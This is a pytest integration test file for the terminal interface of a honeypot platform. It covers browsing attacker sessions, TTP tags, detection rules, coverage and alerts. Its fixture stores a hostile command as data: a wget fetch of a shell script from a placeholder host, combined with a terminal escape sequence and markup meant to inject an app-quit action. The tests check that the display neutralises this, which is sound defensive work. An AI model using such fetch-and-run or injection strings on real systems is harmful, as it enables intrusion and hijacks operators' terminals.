"""Actors and coverage over a real database: down to a command, its tags and its recording, and back."""

from __future__ import annotations

import struct
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from decnet.db.repository import BaseRepository
from decnet.db.rows.ttp import TTPTag
from decnet.ids import attacker_id, identity_id
from decnet_tui.app import DecnetApp
from decnet_tui.screens.levels import LevelsView
from tests.consolekit import FakeSession, StoreSession, screen_text
from tests.dbkit import open_repo
from tests.integration.test_console_app import SETTINGS
from tests.rowkit import define_rule

IP = "203.0.113.7"
A = attacker_id(IP)
HOSTILE = "wget http://203.0.113.9/x.sh\x1b]0;owned\x07[@click=app.quit]x[/]"
HEADER = struct.Struct("<iLiiLL")


def recording(*outputs: tuple[int, bytes]) -> bytes:
    return b"".join(HEADER.pack(3, 0, len(data), 2, ts, 0) + data for ts, data in outputs)


@pytest.fixture
async def repo(tmp_path: Path) -> AsyncIterator[BaseRepository]:
    async with open_repo("sqlite", tmp_path) as made:
        for number in range(2):
            ip = f"203.0.113.{7 + number}"
            await made.upsert_attackers([(attacker_id(ip), ip, 1000.0 + number)])
            await made.form_identities([attacker_id(ip)])
        payload = {"session_id": "s1", "attacker_uuid": A, "attacker_ip": IP, "decky_id": "web-01", "service": "ssh",
                   "started_at": 1000.0, "ended_at": 1030.0, "duration_s": 30.0, "command_count": 2, "part": 1, "parts": 1,
                   "end_reason": "closed", "client": {"size": "80x24"}, "auth": {}, "keystrokes_ref": "k1"}  # fmt: skip
        await made.upsert_session(payload)
        commands = [
            {"id": "c1", "command_text": HOSTILE, "ts": 1001.0},
            {"id": "c2", "command_text": "echo hi", "ts": 1020.0},
        ]
        await made.insert_commands("s1", commands)
        await made.upsert_recording(
            "k1", "s1", recording((1000, b"motd\n"), (1001, b"$ wget\n"), (1020, b"hi\n"))
        )
        evidence = {"field": "command_text", "matched": "wget http", "span": [0, 9], "view": "command"}
        tag = TTPTag(source_kind="command", source_id="c1", attacker_uuid=A, session_id="s1", tactic="TA0011", technique_id="T1105",
                     confidence=0.85, rule_id="R0002", rule_version=1, evidence=evidence,
                     seen_at=datetime.fromtimestamp(1001, UTC))  # fmt: skip
        await made.insert_tags([tag])
        yield made


def app_on(repo: BaseRepository | None) -> DecnetApp:
    session = FakeSession()
    session.repo = repo
    return DecnetApp(SETTINGS, session=session)


async def shows(app: DecnetApp, pilot: Any, *words: str | Callable[[], bool]) -> str:
    """The screen once all words stand on it and all conditions hold."""
    for _ in range(100):
        text = "\n".join(screen_text(app))
        if all(word in text if isinstance(word, str) else word() for word in words):
            return text
        await pilot.pause(0.05)
    raise AssertionError(f"{words} not on:\n{text}")


@pytest.mark.parametrize("size", [(80, 24), (160, 48)])
async def test_from_an_actor_to_the_command_its_tag_and_its_recording(
    repo: BaseRepository, size: tuple[int, int]
) -> None:
    app = app_on(repo)
    async with app.run_test(size=size) as pilot:
        await pilot.press("3")
        await shows(app, pilot, IP, "203.0.113.8")
        app.open_in("actors", A)
        await pilot.press("enter")
        await shows(app, pilot, f"{IP} ", "web-01", "Enter: opens the line")
        await pilot.press("enter")
        text = await shows(app, pilot, "session s1", "echo hi", "T1105")
        assert "\x1b" not in text
        await pilot.press("g", "enter")
        await shows(app, pilot, "Ingress Tool Transfer", "rule R0002", "0-9", "[@click=app.quit]")
        await pilot.press("escape", "w")
        await shows(app, pilot, "recording", "motd")
        await pilot.press("n")
        await shows(app, pilot, "$ wget", "tagged command at 1970-01-01 00:16:41: T1105  wget")
        await pilot.press("greater_than_sign")
        await shows(app, pilot, "speed 2x")
        for _ in range(3):
            await pilot.press("escape")
        await shows(app, pilot, "203.0.113.8", "Enter: page")
        assert not app.view.opened


async def test_an_actor_shows_what_each_provider_says_of_its_address_and_when(repo: BaseRepository) -> None:
    await repo.upsert_intel(
        [
            (A, 90_000.0, {"providers": ["abuseipdb"], "abuseipdb_score": 90.0, "abuseipdb_categories": [18, 22]}),
            (A, 180_000.0, {"providers": ["greynoise"], "greynoise_name": "N\x1b[2J", "aggregate_verdict": "malicious"}),
            (A, 190_000.0, {"providers": ["feodo", "shodan"]}),
        ]
    )  # fmt: skip
    app = app_on(repo)
    async with app.run_test(size=(160, 48)) as pilot:
        await pilot.press("3")
        await shows(app, pilot, IP)
        app.open_in("actors", A)
        text = await shows(app, pilot, "what others say", "score 90.0", "categories 18, 22", "name N")
        lines = [line for line in text.split("\n") if "1970-01-0" in line]
        for words in (
            ("abuseipdb: score 90.0  1970-01-02 01:00",), ("greynoise: name N", "1970-01-03 02:00"), ("feodo: nothing known",),
            ("shodan: nothing known",), ("all: aggregate_verdict malicious", "1970-01-03 02:00"),
        ):  # fmt: skip
            assert any(all(word in line for word in words) for line in lines), (words, lines)
        assert "\x1b" not in text


async def test_a_session_with_commands_shows_its_files_and_what_virustotal_says_of_them(
    repo: BaseRepository,
) -> None:
    scan = {
        "eventid": "cowrie.virustotal.scanfile",
        "fields": {"sha256": "ab" * 32, "positives": 3, "total": 60},
    }
    payload = {"session_id": "s1", "attacker_uuid": A, "attacker_ip": IP, "part": 1, "parts": 1, "ended_at": 1031.0,
               "downloads": [{"url": "http://h/x", "sha256": "ab" * 32}], "extras": [scan]}  # fmt: skip
    await repo.upsert_session(payload)
    app = app_on(repo)
    async with app.run_test(size=(160, 48)) as pilot:
        await pilot.press("3")
        await shows(app, pilot, IP)
        app.open_in("actors", "s1")
        await shows(app, pilot, "echo hi", "logged beside the commands:", "virustotal=3/60")


async def test_compare_rules_and_traffic_of_an_actor(repo: BaseRepository) -> None:
    app = app_on(repo)
    async with app.run_test(size=(120, 30)) as pilot:
        await pilot.press("3")
        await shows(app, pilot, IP)
        await pilot.press("g", "space", "G", "equals_sign")
        await shows(app, pilot, "techniques", "T1105 Ingress Tool Transfer", "yes", "no")
        await pilot.press("escape")
        app.view.go_to(A)
        await pilot.press("o")
        await shows(app, pilot, "rules on 203.0.113.7", "R0002", "wget http")


@pytest.mark.parametrize("size", [(80, 24), (160, 48)])
async def test_coverage_leads_to_the_tags_and_to_the_session(
    repo: BaseRepository, size: tuple[int, int]
) -> None:
    app = app_on(repo)
    async with app.run_test(size=size) as pilot:
        await pilot.press("7")
        await shows(app, pilot, "1 technique  1 tag", "T1105")
        lines = screen_text(app)
        assert all(len(line) == size[0] for line in lines)
        assert app.view.record()["technique"] == "T1105"
        await pilot.press("enter")
        await shows(app, pilot, "R0002", "wget http")
        await pilot.press("enter")
        await shows(app, pilot, "session s1", "echo hi")
        await pilot.press("escape", "escape", "right")
        await shows(app, pilot, "Exfil")
        assert app.view.record()["technique"] != "T1105"
        await pilot.press("s", "s", "s")
        await shows(app, pilot, "24h", "view 6 shows whether the sensors read")


async def test_without_a_database_the_views_say_so() -> None:
    app = app_on(None)
    async with app.run_test(size=(80, 24)) as pilot:
        for key in "37":
            await pilot.press(key)
            await shows(app, pilot, "--db")


@pytest.fixture
async def ruled(repo: BaseRepository) -> BaseRepository:
    """With the rule behind the tag, another that hit the same command, and a filter's worth of others."""
    for number in range(1, 5):
        await define_rule(repo, f"R000{number}", 1, f"rule_{number}", "", f"R000{number}.yaml")
    second = TTPTag(source_kind="command", source_id="c2", attacker_uuid=A, session_id="s1", tactic="TA0002",
                    technique_id="T1059", confidence=0.5, rule_id="R0003", rule_version=1, evidence={})  # fmt: skip
    third = TTPTag(source_kind="command", source_id="c2", attacker_uuid=A, session_id="s1", tactic="TA0007",
                   technique_id="T1082", confidence=0.5, rule_id="R0004", rule_version=1, evidence={})  # fmt: skip
    await repo.insert_tags([second, third])
    return repo


async def on_the_commands(app: DecnetApp, pilot: Any) -> None:
    await pilot.press("3")
    await shows(app, pilot, IP)
    app.open_in("actors", A)
    await pilot.press("enter")
    await shows(app, pilot, "Enter: opens the line")
    await pilot.press("enter")
    await shows(app, pilot, "session s1", "echo hi", "o rules")


def ruled_app(repo: BaseRepository) -> DecnetApp:
    return DecnetApp(SETTINGS, session=StoreSession(repo))


async def test_from_a_tag_to_its_rule_and_back_to_the_same_row(ruled: BaseRepository) -> None:
    app = ruled_app(ruled)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("4")
        await shows(app, pilot, "R0004")
        await pilot.press("slash", *"R0004", "enter")
        await on_the_commands(app, pilot)
        await pilot.press("o")
        await shows(app, pilot, "4*Rules", ">R0002")
        await pilot.press("escape")
        await shows(app, pilot, "session s1", ">+0:01")
        await pilot.press("j", "o")
        await shows(app, pilot, "rules on this command", "R0003", "R0004", "Enter: the rule")
        await pilot.press("G", "enter")
        await shows(app, pilot, "4*Rules", ">R0004")
        await pilot.press("o")
        await shows(app, pilot, "tags of R0004")
        await pilot.press("escape")
        await shows(app, pilot, "4*Rules", ">R0004")
        await pilot.press("q", "q")
        await shows(app, pilot, "session s1", ">+0:20")
        assert app.view.name == "actors"


async def test_from_a_technique_to_a_tags_rule_and_from_a_rule_to_its_tags(ruled: BaseRepository) -> None:
    app = ruled_app(ruled)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("7")
        await shows(app, pilot, "3 techniques  3 tags")
        app.open_in("coverage", "T1105")
        await pilot.press("o")
        await shows(app, pilot, "rules on T1105", ">R0002", "Enter: the rule")
        await pilot.press("escape", "enter")
        await shows(app, pilot, "wget http", "o: rule", "o rules")
        await pilot.press("o")
        await shows(app, pilot, ">R0002", "o tags")
        await pilot.press("o")
        await shows(app, pilot, "tags of R0002 rule_2", "T1105", "wget http", "1/1")
        await pilot.press("v")
        await shows(app, pilot, "T1105 Ingress Tool Transfer", "rule R0002")
        await pilot.press("escape", "escape")
        await shows(app, pilot, "4*Rules", ">R0002")
        await pilot.press("G", "o")  # what never fired stands last
        await shows(app, pilot, "R0001 has given no tag yet", "Esc goes back")


async def test_coverage_says_which_rules_nothing_of_ours_feeds(ruled: BaseRepository) -> None:
    from decnet.home import packaged_rules_dir

    path = packaged_rules_dir() / "L0706_jarm_c2.yaml"
    text = {"version": 1, "name": "jarm_c2", "yaml": path.read_text(), "file": path.name, "error": None}
    await ruled.upsert_rule_definitions({"L0706": text})  # type: ignore[dict-item]
    assert [row["rule_id"] for row in await ruled.rules_external()] == ["L0706"]
    app = ruled_app(ruled)
    async with app.run_test(size=(160, 48)) as pilot:
        await pilot.press("7")
        await shows(app, pilot, "3 techniques  3 tags")
        app.open_in("coverage", "T1583")
        await pilot.press("v")
        await shows(
            app,
            pilot,
            "T1583 Acquire Infrastructure",
            "without a producer of ours: L0706 jarm_c2: A JARM is taken",
        )


async def test_esc_goes_back_by_the_levels_that_were_seen(ruled: BaseRepository) -> None:
    app = ruled_app(ruled)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("6")
        app.open_in("actors", A)
        await shows(app, pilot, f">{IP}")
        await pilot.press("enter")
        await shows(app, pilot, "Enter: opens the line")
        await pilot.press("escape")
        assert (app.view.name, app.view.opened) == ("actors", False)
        await pilot.press("escape")
        assert app.view.name == "workers"
        app.open_in("actors", "s1")
        await shows(app, pilot, "session s1")
        await pilot.press("escape")
        assert app.view.name == "workers"


@pytest.mark.parametrize(("key", "opens"), [("3", 3), ("7", 1), ("2", 0)])
async def test_the_key_of_a_view_goes_to_its_first_level(ruled: BaseRepository, key: str, opens: int) -> None:
    app = ruled_app(ruled)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press(key)
        await pilot.pause(0.5)
        for _ in range(opens):
            await pilot.press("enter")
            await pilot.pause(0.3)
        assert app.view.opened == bool(opens)
        await pilot.press("4", key)
        assert app.view.opened == bool(opens), "coming back finds what was left"
        await pilot.press(key)
        assert not app.view.opened
        assert app.view.crumbs() == []


async def test_the_last_crumb_and_the_counts_stay_whole_in_80_columns(ruled: BaseRepository) -> None:
    app = ruled_app(ruled)
    async with app.run_test(size=(80, 24)) as pilot:
        await on_the_commands(app, pilot)
        assert isinstance(app.view, LevelsView)
        app.view.levels[1].crumb = "2001:db8:ffff:ffff:ffff:ffff:ffff:ffff"
        await pilot.pause(0.7)
        line = screen_text(app)[2]
        assert line.startswith("~ > session s1  o: rules  w: play ")
        assert line.rstrip().endswith("0 hidden  3/3")


async def test_what_fired_in_five_minutes_is_never_more_than_in_a_day(ruled: BaseRepository) -> None:
    """Tags of ignored sources count in neither; one event about many tags is many tags."""
    app = ruled_app(ruled)
    session = app.session
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("4")
        await shows(app, pilot, "R0002")
        for _ in range(3):
            session.bus.put("ttp.rule.fired.T1105", {"rule_ids": ["R0002"]})  # type: ignore[attr-defined]
        await pilot.pause(0.8)
        counts = {r["rule_id"]: (r["fired_5m"], r["fired_24h"]) for r in app.view.records()}
        assert counts == {"R0001": (0, 0), "R0002": (1, 1), "R0003": (1, 1), "R0004": (1, 1)}
        await ruled.ignore_add(IP)
        await pilot.press("3", "4")
        app.read_now()
        await shows(
            app, pilot, lambda: {(r["fired_5m"], r["fired_24h"]) for r in app.view.records()} == {(0, 0)}
        )


async def suspect(repo: BaseRepository) -> str:
    """An alert whose sides are the one session and one that is not stored; its id."""
    row = await repo.raise_alert({
        "identity_uuid": identity_id(A), "attacker_uuids": [A], "families": ["client"], "primitives": ["session.client"],
        "sides": [["s1"], ["s2"]], "confidence": 0.6, "ts": 1030.0, "explanation": {},
    })  # fmt: skip
    return str(row["alert_id"])


async def test_an_alert_done_with_in_its_sessions_is_done_with_in_the_list(
    repo: BaseRepository, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("decnet_tui.screens.loading.EVERY_S", 1e6)  # nothing but the way back makes it read
    alert = await suspect(repo)
    app = app_on(repo)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("2")
        await shows(app, pilot, "open", "v: for and against")
        await pilot.press("enter")
        await shows(app, pilot, "first commands", "web-01", "1 session not stored any more")
        await pilot.press("v")
        await shows(app, pilot, "side A  session s1", "[@click=app.quit]")
        await repo.set_alert_state(alert, "acknowledged", "bob")
        await pilot.press("escape", "escape")
        assert not app.view.opened
        await shows(app, pilot, "acknowledged")
        await pilot.press("0")
        await shows(app, pilot, "READ FIRST")
        assert "alert " not in "\n".join(screen_text(app))


async def test_n_jumps_in_a_recording_that_an_alert_led_to_and_asks_for_nothing(repo: BaseRepository) -> None:
    await suspect(repo)
    app = app_on(repo)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("2")
        await shows(app, pilot, "open")
        await pilot.press("enter")
        await shows(app, pilot, "web-01")
        await pilot.press("w")
        text = await shows(app, pilot, "motd", "n next tagged")
        assert "ack" not in text
        await pilot.press("n")
        await shows(app, pilot, "tagged command at")
        await pilot.press("R")
        await shows(app, pilot, "R works in")


async def test_a_marked_command_shows_its_mark_and_a_tagged_one_only_its_techniques(
    repo: BaseRepository,
) -> None:
    app = app_on(repo)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("3")
        await shows(app, pilot, IP)
        app.open_in("actors", "s1")
        await shows(app, pilot, "echo hi", "T1105")
        await pilot.press("g", "down")
        assert not [line for line in screen_text(app) if line.startswith("#")]
        await pilot.press("space", "up", "up")
        await shows(app, pilot, lambda: any(line.startswith("#") for line in screen_text(app)))


async def test_a_view_by_its_name_goes_to_the_line_that_is_named(repo: BaseRepository) -> None:
    app = app_on(repo)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("colon", *"coverage T1105", "enter")
        await shows(app, pilot, "1 technique", lambda: app.view.record().get("technique") == "T1105")
        await pilot.press("colon", *"coverage 203.0.113.99", "enter")
        await shows(app, pilot, "no technique, day, source, identity or campaign is called 203.0.113.99")
        await pilot.press("colon", *"coverage 203.0.113.8", "enter")
        await shows(app, pilot, "203.0.113.8, all")
        await pilot.press("colon", *"actors 203.0.113.8", "enter")
        await shows(app, pilot, lambda: app.view.record().get("attacker_ip") == "203.0.113.8")


async def test_a_source_that_is_ignored_is_said_to_be_left_out(repo: BaseRepository) -> None:
    await repo.ignore_add(IP, reason="own scanner", set_by="bob")
    app = app_on(repo)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("3")
        await shows(app, pilot, "1 ignored  Enter: page", "203.0.113.8")
        await pilot.press("slash", *f"ip:{IP} ", "enter")
        await shows(app, pilot, f"No sources hold: ip:{IP}", "1 ignored source left out")
        await pilot.press("2")
        await shows(app, pilot, "No alert", "1 ignored source left out")


async def test_a_message_goes_with_a_later_key_unless_it_warns(repo: BaseRepository) -> None:
    app = app_on(repo)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.press("3")
        await shows(app, pilot, IP)
        await pilot.press("equals_sign")
        await shows(app, pilot, "mark one actor with space")
        await pilot.press("down")
        await shows(app, pilot, "mark one actor with space")
        app._fades = 0.001
        await pilot.press("down")
        await shows(app, pilot, lambda: "mark one actor" not in "\n".join(screen_text(app)))
        app.say("multi-actor alert", bad=True)
        await pilot.press("down")
        await shows(app, pilot, "multi-actor alert")
